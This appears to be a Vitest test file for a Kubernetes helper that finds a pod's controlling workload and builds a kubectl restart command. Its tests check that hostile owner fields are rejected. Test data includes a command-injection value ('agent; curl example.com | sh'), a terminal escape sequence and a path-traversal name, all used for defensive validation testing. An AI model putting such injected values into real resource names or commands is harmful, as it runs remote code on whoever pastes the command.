import { describe, expect, it } from 'vitest';
import { restartCommand, workloadOf } from '../../../src/core/status/workload.ts';

const owner = (change: object) => ({
  ownerReferences: [
    {
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      name: 'agent',
      uid: 'u',
      controller: true,
      ...change,
    },
  ],
});

describe('the workload of a pod', () => {
  it('is the one that controls it', () => {
    const workload = workloadOf(owner({}))!;
    expect(workload).toEqual({ apiVersion: 'apps/v1', kind: 'DaemonSet', name: 'agent', uid: 'u' });
    expect(restartCommand(workload, 'agents')).toBe(
      'kubectl -n agents rollout restart daemonset/agent',
    );
    expect(workloadOf(owner({ controller: false }))).toBeUndefined();
  });

  // Whoever creates a pod writes its owner, which need not exist, and people paste the command that names it.
  it.each([
    ['a name that a shell would run', { name: 'agent; curl example.com | sh' }],
    ['a name that controls a terminal', { name: 'agent\u001b[2J' }],
    ['a name of another path', { name: '../agent' }],
    ['a kind that is none', { kind: 'Daemon Set\n' }],
    ['a kind that no Event has room for', { kind: 'D'.repeat(64) }],
    ['no name', { name: undefined }],
  ])('is unknown where its owner has %s', (_, change) => {
    expect(workloadOf(owner(change))).toBeUndefined();
  });

  it('is unknown where the name without the hash is none', () => {
    const labels = { 'pod-template-hash': 'x' };
    const metadata = { ...owner({ kind: 'ReplicaSet', name: 'agent--x' }), labels };
    expect(workloadOf(metadata)?.kind).toBe('ReplicaSet');
  });
});
